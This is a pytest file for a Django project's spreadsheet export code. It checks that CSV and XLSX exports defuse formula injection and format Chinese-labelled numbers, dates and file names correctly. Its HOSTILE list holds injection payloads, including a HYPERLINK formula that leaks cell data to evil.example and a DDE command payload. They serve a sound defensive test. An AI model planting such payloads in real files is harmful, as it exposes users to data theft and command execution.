"""The shared export mechanism: formula injection, number cells, units, file names."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

import openpyxl
import pytest
from django.utils import timezone

from gaoxin.core import exporting
from gaoxin.core.exporting import Column, Export, Kind

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

EXPORT = Export(
    "测试清单",
    "test-list",
    [
        Column("名称", lambda r: r.name),
        Column("营业收入（万元）", lambda r: r.revenue, Kind.WAN),
        Column("利润（元）", lambda r: r.profit, Kind.YUAN),
        Column("人数（人）", lambda r: r.staff, Kind.INTEGER),
        Column("比例", lambda r: r.ratio, Kind.PERCENT),
        Column("日期", lambda r: r.day, Kind.DATE),
        Column("产业链", lambda r: r.chain, labels={"display": "平板显示"}.get),
    ],
)


def rows(names: list[str]) -> list[Any]:
    return [
        SimpleNamespace(
            name=name,
            revenue=Decimal("123456789.00"),
            profit=Decimal("-5000000.50"),
            staff=1200,
            ratio=Decimal("0.35"),
            day=dt.date(2026, 12, 4),
            chain="display",
        )
        for name in names
    ]


def test_xlsx_writes_hostile_text_as_text_and_numbers_as_numbers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(exporting.write_xlsx(EXPORT, rows(HOSTILE))))
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [sheet.cell(n, 1) for n in range(2, len(HOSTILE) + 2)]
    # shown as they are, never run (XML reads a carriage return back as a line feed)
    assert [c.value for c in names] == [h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    revenue, profit, staff, ratio, day, chain = (sheet.cell(2, n) for n in range(2, 8))
    assert (revenue.value, revenue.number_format) == (12345.68, "#,##0.00")  # 万元
    assert (profit.value, profit.data_type, profit.number_format) == (-5000000.5, "n", "#,##0.00")
    assert (staff.value, staff.number_format) == (1200, "#,##0")
    assert (ratio.value, ratio.number_format) == (0.35, "0.00%")
    assert day.value == dt.datetime(2026, 12, 4) and day.number_format == "yyyy-mm-dd"
    assert chain.value == "平板显示"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:G{len(HOSTILE) + 1}"
    assert sheet.column_dimensions["B"].width >= 18  # the Chinese header fits
    assert [c.font.b for c in sheet[1]] == [True] * 7


def test_csv_guards_every_formula_start_and_keeps_negative_numbers() -> None:
    body = exporting.write_csv(EXPORT, rows(HOSTILE))
    assert body.startswith("\ufeff".encode())
    import csv

    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert lines[0] == [
        "名称",
        "营业收入（万元）",
        "利润（元）",
        "人数（人）",
        "比例",
        "日期",
        "产业链",
    ]
    for line, name in zip(lines[1:], HOSTILE, strict=True):
        assert line[0] == "'" + name
        assert line[1:] == ["12345.68", "-5000000.50", "1200", "35.00%", "2026-12-04", "平板显示"]
    assert exporting.csv_safe("厦门=科技") == "厦门=科技"  # only a leading sign is a formula
    assert exporting.csv_safe(None) == ""


def test_text_longer_than_a_cell_holds_is_cut() -> None:
    body = exporting.write_xlsx(EXPORT, rows(["长" * 40_000]))
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None and len(sheet["A2"].value) == 32_767


def test_control_characters_that_a_workbook_cannot_hold_are_dropped() -> None:
    book = openpyxl.load_workbook(
        io.BytesIO(exporting.write_xlsx(EXPORT, rows(["厦门\x00\x07科技"])))
    )
    assert book.active is not None and book.active["A2"].value == "厦门科技"


def test_times_are_local_and_naive() -> None:
    export = Export("t", "t", [Column("时间", lambda r: r, Kind.TIMESTAMP)])
    moment = dt.datetime(2026, 12, 4, 1, 2, 3, tzinfo=dt.UTC)
    sheet = openpyxl.load_workbook(io.BytesIO(exporting.write_xlsx(export, [moment]))).active
    assert sheet is not None
    assert sheet["A2"].value == timezone.localtime(moment).replace(tzinfo=None)
    assert "2026-12-04 09:02:03" in exporting.write_csv(export, [moment]).decode("utf-8-sig")


@pytest.mark.parametrize("as_csv,suffix", [(False, "xlsx"), (True, "csv")])
def test_file_name_is_chinese_with_the_date_and_an_ascii_fallback(
    as_csv: bool, suffix: str
) -> None:
    response = exporting.export_response(EXPORT, rows(["甲"]), as_csv=as_csv, name="研发/补助")
    today = timezone.localdate().isoformat()
    chinese = f"测试清单_研发_补助_{today}.{suffix}"
    assert response["Content-Disposition"] == (
        f"attachment; filename=\"test-list_{today}.{suffix}\"; filename*=UTF-8''{quote(chinese)}"
    )
    assert response["Content-Type"].startswith(
        "text/csv" if as_csv else "application/vnd.openxmlformats"
    )


def test_statement_style_sheets_are_defused() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1", "+2", 3])
    exporting.defuse(sheet)
    assert [c.data_type for c in sheet[1]] == ["s", "s", "n"]
